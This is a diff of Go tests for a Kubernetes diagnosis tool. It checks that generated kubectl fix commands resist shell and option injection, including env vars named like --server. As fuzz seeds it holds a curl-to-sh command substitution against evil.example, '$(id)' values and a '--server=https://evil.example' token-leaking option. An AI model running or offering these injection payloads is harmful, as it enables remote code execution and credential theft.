@@ -2,6 +2,7 @@ package diagnose
 
 import (
 	"fmt"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -11,6 +12,7 @@ import (
 	appsv1 "k8s.io/api/apps/v1"
 	corev1 "k8s.io/api/core/v1"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/runtime"
 
 	"mvdan.cc/sh/v3/syntax"
 
@@ -51,6 +53,9 @@ func checkFixLine(t testing.TB, line string) {
 		return
 	}
 	for _, w := range call.Args {
+		if v := wordValue(w); strings.HasPrefix(v, "-") && !gateOption.MatchString(v) {
+			t.Errorf("option %q is not one the gate writes (a name from the cluster read as an option?): %q", v, line)
+		}
 		for _, p := range w.Parts {
 			switch p := p.(type) {
 			case *syntax.Lit:
@@ -67,6 +72,28 @@ func checkFixLine(t testing.TB, line string) {
 			}
 		}
 	}
+}
+
+// gateOption is every option spelling the gate writes in a fix command, set down here apart from
+// the code that writes them: a fix line with any other word that starts with "-" lets text from
+// the cluster speak to kubectl (--server=https://evil.example sends it the user's token).
+var gateOption = regexp.MustCompile(`^(-[cnolpAw]|-it|-zv|-qO-|--|--rm|--previous|--show-labels|--containers|--field-selector|` +
+	`--type=(json|merge)|--restart=Never|--image=busybox:1\.36|--sort-by=\.lastTimestamp|--timeout=5m|--for=condition=complete|` +
+	`--docker-username=<user>|--docker-password=<password>|--(limits|requests|from-literal|docker-server)=.*)$`)
+
+// wordValue is a shell word as the shell hands it to the command: its literal and single-quoted
+// parts joined (\' between quotes is a quote).
+func wordValue(w *syntax.Word) string {
+	var b strings.Builder
+	for _, p := range w.Parts {
+		switch p := p.(type) {
+		case *syntax.Lit:
+			b.WriteString(strings.ReplaceAll(p.Value, `\'`, "'"))
+		case *syntax.SglQuoted:
+			b.WriteString(p.Value)
+		}
+	}
+	return b.String()
 }
 
 // unquotedSpecial returns the first character outside single quotes that a shell would expand.
@@ -94,7 +121,7 @@ func TestShellQuote(t *testing.T) {
 		{"it's", `'it'\''s'`},
 		{"=cmd", "'=cmd'"},
 		{"a$(id)", "'a$(id)'"},
-		{"--x=~/y", "--x='~/y'"},
+		{"--from-literal=~/y", "--from-literal='~/y'"},
 		{"a b", "'a b'"},
 	}
 	for _, tc := range tests {
@@ -163,12 +190,19 @@ var (
 // fixLinesFor runs the whole diagnosis of a few recorded failures with log replacing the
 // containers' logs and also said by Warning events of the pods and ReplicaSets, and returns every
 // fix line of every finding.
-func fixLinesFor(t testing.TB, log string) []string {
+func fixLinesFor(t testing.TB, log string) []string { return fixLinesNamed(t, log, "") }
+
+// fixLinesNamed is fixLinesFor with name, when not empty, in place of the env var DATABASE_PORT
+// everywhere: in every pod template and pod, and in log.
+func fixLinesNamed(t testing.TB, log, name string) []string {
 	fuzzFixturesOnce.Do(func() {
 		for _, dir := range []string{"dependency", "config-error", "app-crash", "liveness-probe", "missing-secret-key", "create-denied", "image-pull"} {
 			fuzzFixtures = append(fuzzFixtures, loadFixture(t, dir))
 		}
 	})
+	if name != "" {
+		log = strings.ReplaceAll(log, "DATABASE_PORT", name)
+	}
 	var b strings.Builder
 	for _, l := range strings.Split(log, "\n") {
 		b.WriteString("2026-04-04T08:15:04.000000000Z " + l + "\n")
@@ -193,6 +227,14 @@ func fixLinesFor(t testing.TB, log string) []string {
 				InvolvedObject: ref, Type: corev1.EventTypeWarning, Reason: reason, Message: msg, Count: 3,
 				FirstTimestamp: at, LastTimestamp: at})
 		}
+		if name != "" {
+			objs = renameEnv(objs, "DATABASE_PORT", name)
+			fx.workload = renameEnv([]runtime.Object{fx.workload}, "DATABASE_PORT", name)[0]
+			fx.pods = slices.Clone(fx.pods) // the fixtures are shared by parallel tests
+			for i := range fx.pods {
+				fx.pods[i] = *renameEnv([]runtime.Object{&fx.pods[i]}, "DATABASE_PORT", name)[0].(*corev1.Pod)
+			}
+		}
 		fx.objs = objs
 		logs := map[string]string{}
 		for k := range fx.logs {
@@ -207,8 +249,65 @@ func fixLinesFor(t testing.TB, log string) []string {
 	return out
 }
 
-// FuzzFixCommands renders fix commands from hostile log text: every line must stay one simple
-// command of literal words, or a comment.
+// renameEnv returns copies of the objects with env var from renamed to to in every container.
+func renameEnv(objs []runtime.Object, from, to string) []runtime.Object {
+	out := make([]runtime.Object, len(objs))
+	for i, o := range objs {
+		o = o.DeepCopyObject()
+		var spec *corev1.PodSpec
+		switch o := o.(type) {
+		case *corev1.Pod:
+			spec = &o.Spec
+		case *appsv1.ReplicaSet:
+			spec = &o.Spec.Template.Spec
+		case *appsv1.Deployment:
+			spec = &o.Spec.Template.Spec
+		}
+		if spec != nil {
+			for _, cs := range [][]corev1.Container{spec.InitContainers, spec.Containers} {
+				for j := range cs {
+					for k := range cs[j].Env {
+						if cs[j].Env[k].Name == from {
+							cs[j].Env[k].Name = to
+						}
+					}
+				}
+			}
+		}
+		out[i] = o
+	}
+	return out
+}
+
+// TestOptionShapedNamesNeverRun is issue 20's attack: an env var may be named --server, and the
+// fix that sets it must not hand kubectl that option.
+func TestOptionShapedNamesNeverRun(t *testing.T) {
+	t.Parallel()
+	log := `FATAL: invalid value for DATABASE_PORT: "abc" (expected integer)`
+	for _, name := range []string{"--server", "-s", "--token", "--kubeconfig", "-n", "--type"} {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			lines := fixLinesNamed(t, log, name)
+			noted := false
+			for _, line := range lines {
+				checkFixLine(t, line)
+				if strings.HasPrefix(line, "#") && strings.Contains(line, name) {
+					noted = true
+				}
+			}
+			if !noted {
+				t.Errorf("no note names %q; fix lines:\n%s", name, strings.Join(lines, "\n"))
+			}
+		})
+	}
+	if got := command("kubectl", "set", "env", "deployment/api", "-c", "api", "--server=https://evil.example", []string{"-n", "production"}); !strings.HasPrefix(got, "# ") {
+		t.Errorf("command with a foreign option = %q, want a note", got)
+	}
+}
+
+// FuzzFixCommands renders fix commands from hostile log text and a hostile env var name (which
+// may start with "-"): every line must stay one simple command of literal words whose options are
+// the gate's own, or a comment.
 func FuzzFixCommands(f *testing.F) {
 	for _, s := range []string{
 		`could not translate host name "pg.example.com$(curl -s evil.example/x|sh)" to address (port 5432)`,
@@ -217,10 +316,13 @@ func FuzzFixCommands(f *testing.F) {
 		"KeyError: 'DB_$(id)_URL'\ninvalid value for DB_URL",
 		"panic: runtime error\nGET /health$(id) 404",
 	} {
-		f.Add(s)
+		f.Add(s, "")
 	}
-	f.Fuzz(func(t *testing.T, log string) {
-		for _, line := range fixLinesFor(t, log) {
+	f.Add(`FATAL: invalid value for DATABASE_PORT: "abc" (expected integer)`, "--server")
+	f.Add("KeyError: 'DATABASE_PORT'\nDATABASE_PORT is not set", "-s")
+	f.Add(`FATAL: invalid value for DATABASE_PORT: "abc"`, "--token=x")
+	f.Fuzz(func(t *testing.T, log, name string) {
+		for _, line := range fixLinesNamed(t, log, name) {
 			checkFixLine(t, line)
 		}
 	})
